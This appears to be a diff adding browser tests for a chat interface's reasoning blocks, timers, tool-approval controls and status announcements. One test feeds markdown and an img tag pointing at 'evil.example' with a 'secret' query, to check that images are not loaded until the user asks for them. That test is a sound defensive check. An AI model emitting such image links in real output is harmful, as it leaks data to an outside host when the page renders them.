@@ -1,0 +1,177 @@
+import type { ChatEvent, ReasoningSegment, Segment } from '@millrace/core/fold/shapes'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { eventOf } from './html.ts'
+import { status, text, thought, tool } from './segments.ts'
+import { absence, NOON, openTheatre, type Performance, type Theatre } from './stage.ts'
+
+let theatre: Theatre
+beforeAll(async () => {
+  if (absence === undefined) theatre = await openTheatre()
+})
+afterAll(() => theatre?.close())
+
+const live = (...segments: readonly Segment[]): ChatEvent[] => [eventOf(segments, { state: 'live' })]
+
+/** A thought that began three seconds ago. */
+const recent = (took?: number): ReasoningSegment => {
+  const { endedAt: _endedAt, ...segment } = thought(1, 'It is a timer.', took)
+  return { ...segment, startedAt: NOON - 3000, ...(took !== undefined && { endedAt: NOON - 3000 + took }) }
+}
+
+/** Which triggers are open, by what they say. */
+const triggers = ({ page }: Performance) =>
+  page.$$eval('[aria-expanded]', (nodes) =>
+    nodes.map(
+      (node) =>
+        `${node.querySelector('.mr-label')?.textContent} ${node.getAttribute('aria-expanded') === 'true' ? 'open' : 'closed'}`,
+    ),
+  )
+
+async function played(act: (performance: Performance) => Promise<void>): Promise<void> {
+  const performance = await theatre.open()
+  try {
+    await act(performance)
+  } finally {
+    await performance.page.close()
+  }
+}
+
+describe.skipIf(absence !== undefined)(`in a browser${absence === undefined ? '' : `: skipped, ${absence}`}`, () => {
+  it('S0-114: a block closes 500 ms after its end', () =>
+    played(async (performance) => {
+      await performance.show(live(recent()))
+      expect(await triggers(performance)).toEqual(['Thinking… open'])
+      await performance.show(live(recent(5000)))
+      await performance.page.clock.runFor(499)
+      expect(await triggers(performance)).toEqual(['Thought for 5s open'])
+      await performance.page.clock.runFor(2)
+      expect(await triggers(performance)).toEqual(['Thought for 5s closed'])
+    }))
+
+  it('S0-115 S0-119: five steps of a stream open and close the blocks at once', () =>
+    played(async (performance) => {
+      const steps: readonly (readonly [segments: Segment[], triggers: string[]])[] = [
+        [[status(1, ['Indexing'])], ['Processing… open']],
+        [
+          [status(1, ['Indexing'], 1000), thought(2, 'Hm')],
+          ['Processed in 1s closed', 'Thinking… open'],
+        ],
+        [
+          [status(1, ['Indexing'], 1000), thought(2, 'Hm, so')],
+          ['Processed in 1s closed', 'Thinking… open'],
+        ],
+        [
+          [status(1, ['Indexing'], 1000), thought(2, 'Hm, so', 2000), status(3, ['Testing'])],
+          ['Processed in 1s closed', 'Thought for 2s closed', 'Processing… open'],
+        ],
+        [
+          [
+            status(1, ['Indexing'], 1000),
+            thought(2, 'Hm, so', 2000),
+            status(3, ['Testing'], 1000),
+            text(4, 'Done', 'live'),
+          ],
+          ['Processed in 1s closed', 'Thought for 2s closed', 'Processed in 1s closed'],
+        ],
+      ]
+      for (const [segments, expected] of steps) {
+        await performance.show(live(...segments))
+        expect(await triggers(performance)).toEqual(expected)
+      }
+      expect(await performance.page.locator('.mr-prose').textContent()).toBe('Done')
+    }))
+
+  it('S0-116: a click wins for ever, over the end and over newer blocks', () =>
+    played(async (performance) => {
+      const { page } = performance
+      await performance.show(live(recent()))
+      await page.click('.mr-head')
+      expect(await triggers(performance)).toEqual(['Thinking… closed'])
+      await performance.show(live({ ...recent(), text: 'It is a timer, I think.' }))
+      expect(await triggers(performance)).toEqual(['Thinking… closed'])
+      await page.click('.mr-head')
+      await performance.show(live(recent(5000), text(2, 'Done', 'live')))
+      await page.clock.runFor(5000)
+      expect(await triggers(performance)).toEqual(['Thought for 5s open'])
+    }))
+
+  it('S0-116: a card that was opened stays open when it is folded with its neighbours', () =>
+    played(async (performance) => {
+      const reads = [1, 2, 3].map((seq) => tool(seq, 'Read', { input: { path: `${seq}.ts` }, output: 'x' }))
+      await performance.show(live(...reads.slice(0, 2)))
+      await performance.page.click('.mr-head >> nth=1')
+      await performance.show(live(...reads))
+      expect(await triggers(performance)).toEqual(['Read 3 files open', 'Read closed', 'Read open', 'Read closed'])
+    }))
+
+  it('S0-107: a stored block mounts closed, and stays so', () =>
+    played(async (performance) => {
+      await performance.show([eventOf([recent(5000)])])
+      expect(await triggers(performance)).toEqual(['Thought for 5s closed'])
+      expect(await performance.page.evaluate(() => document.getAnimations().length)).toBe(0)
+    }))
+
+  it('S0-112: seconds are counted while a thought lives, and settle to those of the data', () =>
+    played(async (performance) => {
+      const seconds = performance.page.locator('.mr-head .mr-time')
+      await performance.show(live(recent()))
+      expect(await seconds.textContent()).toBe('3s')
+      await performance.page.clock.runFor(4000)
+      expect(await seconds.textContent()).toBe('7s')
+      await performance.show(live(recent(5000)))
+      expect(await performance.page.locator('.mr-label').textContent()).toBe('Thought for 5s')
+      expect(await seconds.count()).toBe(0)
+    }))
+
+  it('S0-110: processing and thinking have different fills', () =>
+    played(async (performance) => {
+      await performance.show(live(status(1, ['a'], 1000), thought(2, 'b')))
+      const fill = (selector: string) =>
+        performance.page.$eval(selector, (node) => getComputedStyle(node).backgroundColor)
+      expect(await fill('.mr-processing')).not.toBe(await fill('.mr-thinking'))
+    }))
+
+  it('answers an approval by button or key, once', () =>
+    played(async (performance) => {
+      const { page } = performance
+      const asking = (seq: number) =>
+        tool(seq, 'Bash', {
+          state: 'approval',
+          input: { command: 'ls' },
+          approval: { approvalId: `a${seq}`, state: 'requested' },
+        })
+      await performance.show(live(asking(1), asking(2), asking(3)))
+      expect(await page.evaluate(() => document.activeElement === document.body)).toBe(true)
+      await page.getByRole('button', { name: 'Approve' }).first().click()
+      expect(await page.getByRole('button', { name: 'Approve' }).first().isDisabled()).toBe(true)
+      await page.locator('.mr-asking').nth(1).focus()
+      await page.keyboard.press('d')
+      await page.keyboard.press('a')
+      await page.locator('.mr-asking').nth(2).focus()
+      await page.keyboard.press('Control+a')
+      expect(await page.evaluate(() => globalThis.stage.answers)).toEqual([
+        ['a1', { state: 'approved' }],
+        ['a2', { state: 'denied' }],
+      ])
+    }))
+
+  it('asks nobody for a picture before it is wanted', () =>
+    played(async (performance) => {
+      await performance.show([
+        eventOf([text(1, '![x](https://evil.example/?q=secret) <img src="https://evil.example/2">')]),
+      ])
+      expect(performance.requests).toEqual([])
+      await performance.page.getByRole('button', { name: 'Show image' }).click()
+      await expect.poll(() => performance.requests).toEqual(['https://evil.example/?q=secret'])
+    }))
+
+  it('says one word per finished block, and none for what was there before', () =>
+    played(async (performance) => {
+      const said = performance.page.locator('[role=status]')
+      await performance.show(live(recent(5000), tool(2, 'Bash', { state: 'running' })))
+      await performance.show(live(recent(5000), tool(2, 'Bash')))
+      expect(await said.textContent()).toBe('Bash finished')
+      await performance.show(live(recent(5000), tool(2, 'Bash'), text(3, 'Do', 'live')))
+      expect(await said.textContent()).toBe('Bash finished')
+    }))
+})
